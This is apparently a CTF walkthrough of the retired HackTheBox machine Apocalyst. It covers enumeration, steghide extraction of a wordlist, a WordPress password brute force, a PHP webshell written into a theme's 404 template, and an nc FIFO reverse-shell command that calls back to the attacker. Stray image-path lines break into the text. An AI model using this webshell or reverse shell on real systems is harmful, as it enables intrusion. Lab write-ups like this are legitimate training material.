Apocalyst wasn’t my favorite box. It is all about building a wordlist to find a specific image file on the site, and then extracting another list from that image using StegHide. That list contains the WordPress user’s password, giving access to the admin panel and thus execution. To root, I’ll find a writable passwd file and add in a root user.

Box Info

Name Apocalyst Apocalyst
Play on HackTheBox
Release Date 18 Aug 2017
Retire Date 25 Nov 2017
OS Linux Linux
Base Points Medium [30]
Rated Difficulty Rated difficulty for Apocalyst
Radar Graph Radar chart for Apocalyst
First Blood User 01:13:22B3h0ld3rFirst Blood Root 04:39:54clandestine
Creator Dosk3n



nmap found two open TCP ports, SSH (22) and HTTP (80):

oxdf@parrot$ nmap -p- --min-rate 10000 -oA scans/nmap-alltcp
Starting Nmap 7.91 ( https://nmap.org ) at 2021-02-04 17:48 EST
Nmap scan report for
Host is up (0.013s latency).
Not shown: 65533 closed ports
22/tcp open  ssh
80/tcp open  http

Nmap done: 1 IP address (1 host up) scanned in 6.07 seconds
oxdf@parrot$ nmap -p 22,80 -sCV -oA scans/nmap-tcpscripts
Starting Nmap 7.91 ( https://nmap.org ) at 2021-02-04 17:49 EST
Nmap scan report forHost is up (0.015s latency).

22/tcp open  ssh     OpenSSH 7.2p2 Ubuntu 4ubuntu2.2 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 fd:ab:0f:c9:22:d5:f4:8f:7a:0a:29:11:b4:04:da:c9 (RSA)
|   256 76:92:39:0a:57:bd:f0:03:26:78:c7:db:1a:66:a5:bc (ECDSA)
|_  256 12:12:cf:f1:7f:be:43:1f:d5:e6:6d:90:84:25:c8:bd (ED25519)
80/tcp open  http    Apache httpd 2.4.18 ((Ubuntu))
|_http-generator: WordPress 4.8
|_http-server-header: Apache/2.4.18 (Ubuntu)
|_http-title: Apocalypse Preparation Blog
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 8.20 seconds

Based on the OpenSSH and Apache versions, the host is likely running Ubuntu 16.04 Xenial.

Website - TCP 80

Configure Domain

Just from the nmap scan it’s clear the site is running WordPress. WordPress is notorious for needing a domain name to load all the elements, so it’s no surprise when visiting the site by IP address looks version broken. Looking at the page source, there are many references to apocalyst.htb, so I’ll add that to my/etc/hosts file, and on reloading, the page looks right.


The site is an Apocalypse Preparation Blog:

Looking at the posts, there are three all by user falaraki.


Given the site is WordPress, I’ll run wpscan:

oxdf@parrot$ wpscan --url http://apocalyst.htb/ -e ap,t,tt,u --api-token $WPSCAN_API

It shows a ton of vulnerabilities (whichisn’t surprising for a box that’s three years old), but all are XSS or DOS or other things that don’t seem useful to me. It identified the same user that I had, falaraki.

No vulnerable plugins, and I couldn’t find any unauthenticated exploits against WordPress Core after this version (4.8).

Directory Brute Force

I’ll run gobuster against the site, andinclude -x php since I know the site is PHP with the command gobuster dir -u http://apocalyst.htb -w /usr/share/wordlists/dirbuster/directory-list-2.3-small.txt -x php. It seems tons of things in the list return status 301.

Looking at one example, I’ll visit http://apocalyst.htb/book. It returns a 301 redirect to /book/. This is not uncommon to see. The resulting page just has an image:


The source is simple:

<!doctype html>

<html lang="en">
  <meta charset="utf-8">

  <title>End of the world</title>

  <img src="image.jpg">

gobuster has an option, -f to add a / to the end of the urls it generates, but I’ll still have an issue of everything returning the same page. I’ll switch to wfuzz to filter out responses of the same length. I’ll start with no filter and Ctrl-c it once it gets started:

oxdf@parrot$ wfuzz -u http://apocalyst.htb/FUZZ/ -w /usr/share/wordlists/dirbuster/directory-list-2.3-smal
* Wfuzz 3.1.0 - The Web Fuzzer                         *

Target: http://apocalyst.htb/FUZZ/
Total requests: 87664
ID           Response   Lines    Word       Chars       Payload

000000048:   404        9 L      32 W       280 Ch      "01"
000000050:   404        9 L      32 W       280 Ch      "06"
000000047:   404        9 L      32 W       283 Ch      "links"
000000015:   404        9 L      32 W       283 Ch      "index"
000000031:   404        9 L      32 W       282 Ch      "logo"
000000046:   404        9 L      32 W       280 Ch      "09"
000000049:   404        9 L      32 W       280 Ch      "08"
000000043:   404        9 L      32 W       285 Ch      "sitemap"
000000341:   200        13 L     17 W       157 Ch      "text"
000000340:   200        13 L     17 W       157 Ch      "post"
000000396:   200        13 L     17 W       157 Ch      "art"
000000379:   200        13 L     17 W       157 Ch      "book"
000000444:   200        13 L     17W       157 Ch      "icon"
000000431:   200        13 L     17 W       157 Ch      "start"
000000480:   200        13 L     17 W       157 Ch      "personal"
000000466:   200        13 L     17 W       157 Ch      "pictures"
000000525:   200        13 L     17 W       157 Ch      "Search"
000000565:   200        13 L     17 W       157 Ch      "information"
000000641:   200        13 L     17 W       157 Ch      "reference"
000000669:   200        13 L     17 W       157 Ch      "entry"

It looks like hiding the 404 responses (--hc 404) and the 157 character responses (--hh 157) should do it. This doesn’t find much of interest:

oxdf@parrot$ wfuzz -u http://apocalyst.htb/FUZZ/ -w /usr/share/wordlists/dirbuster/directory-list-2.3-small.txt --hh 157 --hc 404 -t 40

* Wfuzz 3.1.0 - The Web Fuzzer                         *

Target: http://apocalyst.htb/FUZZ/
Total requests: 87664

ID           Response   Lines    Word       Chars       Payload

000000083:   403        11 L     32 W       294 Ch      "icons"
000000014:   301        0 L      0 W        0 Ch        "http://apocalyst.htb//"
000000008:   200        397 L    4704 W     61496 Ch    "# or send a letter to Creative Commons, 171 Second Street,"
000000002:   200        397 L    4704 W     61496 Ch    "#"
000000013:   200        397 L    4704 W     61496 Ch    "#"
000000012:   200        397 L    4704 W     61496 Ch    "# on atleast 3 differenthosts"
000000009:   200        397 L    4704 W     61496 Ch    "# Suite 300, San Francisco, California, 94105, USA."
000000005:   200        397 L    4704 W     61496 Ch    "# This work is licensed under the Creative Commons"
000000011:   200        397 L    4704 W     61496 Ch    "# Priority ordered case sensative list, where entries were found"
000000010:   200        397 L    4704 W     61496 Ch    "#"
000000006:   200        397 L    4704 W     61496 Ch    "# Attribution-Share Alike 3.0 License. To view a copy of this"
000000004:   200        397 L    4704 W     61496 Ch    "#"
000000241:   200        0 L      0 W        0 Ch        "wp-content"
000000001:   200        397 L    4704 W     61496 Ch    "# directory-list-2.3-small.txt"
000000003:   200        397 L    4704 W     61496 Ch    "# Copyright 2007 James Fisher"
000000785:   200        200 L    2015 W     40841 Ch    "wp-includes"
000000007:   200        397 L    4704 W     61496 Ch    "# license, visit http://creativecommons.org/licenses/by-sa/3.0/"
000007462:   302        0 L      0W        0 Ch        "wp-admin"
000045647:   301        0 L      0 W        0 Ch        "http://apocalyst.htb//"

Total time: 0
Processed Requests: 87664
Filtered Requests: 87645
Requests/sec.: 0

WP Admin Access

This part is really silly, and I don’t think would meet HTB standards for release today. But as it’s anolder machine, CTF-like stuff was much more common.

Generate Custom Wordlist

I’ll build a wordlist using the text on the site. Cewl is a good tool for this (I’ve shown it a few times before). To generate a wordlist, I’ll run cewl apocalyst.htb -w apocalyst.htb.wordlist --with-numbers.

On re-running the wfuzz above with this wordlist, it returns one result:

oxdf@parrot$ wfuzz -u http://apocalyst.htb/FUZZ/ -w apocalyst.htb.wordlist --hh 157 --hc 404 -t 40
* Wfuzz 3.1.0 - The Web Fuzzer                         *

Target: http://apocalyst.htb/FUZZ/
Total requests: 545

ID           Response   Lines    Word       Chars       Payload

000000464:   200        14 L     20 W       175 Ch      "Rightiousness"

Total time: 0
Processed Requests: 545Filtered Requests: 544
Requests/sec.: 0


Visitinghttp://apocalyst.htb/Rightiousness/, it looks like the same image, but the source is slightly different, as there’s an HTML comment <!-- needle --> :

<!doctype html>

<html lang="en">
  <meta charset="utf-8">

  <title>End of the world</title>

  <img src="image.jpg">
  <!-- needle -->

The image looks the same, but it’s actually a slightly different size, and now there’s a comment hinting that I should look at it:


I’ll save it and run steghide on it, giving an empty password, and it extracts a file that looks like another word list:

oxdf@parrot$ steghide extract -sf image.jpeg
Enter passphrase:
wrote extracted data to "list
oxdf@parrot$ cat list.txtBruteforce Password

With this wordlist, I can check to see if any are the password for the user I identified, falaraki. I could use hydra, but wpscan has a brute forcer made to work on WP, so I’ll give that a run:

oxdf@parrot$ wpscan --url http://apocalyst.htb --passwords list.txt --usernames falaraki
[!] Valid Combinations Found:
 | Username: falaraki, Password: Transclisiation

Visiting /wp-admin, those creds work and lead to the admin dashboard:


Shell as www-dataWith admin access to WP, there are many ways to get execution. The first I usually try is to edit a theme page, by going to Appearance –> Editor:


The 404 template is a good place to start. I’ll select that on right right side, and add some code at the top to test:

if (isset($_REQUEST['0xdf'])){ echo '0xdf'; }
 * The template for displaying 404 pages (not found)
 * @link https://codex.wordpress.org/Creating_an_Error_404_Page

Now I’ll find a post that doesn’t exist. The top post on the main page leads to http://apocalyst.htb/?p=9. Changing that 9 to 8 leads to the 404page:


Now I’ll add the parameter 0xdf, visiting http://apocalyst.htb/?p=8&0xdf=1, and “0xdf” is printed right at the top:

oxdf@parrot$ curl -s 'http://apocalyst.htb/?p=8&0xdf=1' | head
0xdf<!DOCTYPE html>
<html lang="en-GB" class="no-js no-svg">
<meta charset="UTF-8">
<metaname="viewport" content="width=device-width, initial-scale=1">
<link rel="profile" href="http://gmpg.org/xfn/11">

<script>(function(html){html.className = html.className.replace(/\bno-js\b/,'js')})(document.documentElement);</script>
<title>Page not found – Apocalypse Preparation Blog</title>
<meta name='robots' content='noindex,follow' />

This shows I can write PHP that will be executed. I’ll change the code to a webshell, <?php if (isset($_REQUEST['0xdf'])){ system($_REQUEST['0xdf']); echo "\n";} , and now it executes commands:

oxdf@parrot$ curl -s 'http://apocalyst.htb/?p=8&0xdf=id' | head -3
uid=33(www-data) gid=33(www-data) groups=33(www-data)

<!DOCTYPE html>


I wasn’t able to get my go-to Bash reverse shell to work, but the FIFO nc shell worked fine:

oxdf@parrot$ curl -s 'http://apocalyst.htb/?p=8' --data-urlencode '0xdf=rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 443 >/tmp/f'

With the listener already running, it gets the shell:oxdf@parrot$ sudo nc -lnvp 443
listening on [any] 443 ...
connect to [] from (UNKNOWN) [] 35858
/bin/sh: 0: can't access tty; job control turned off
$ id
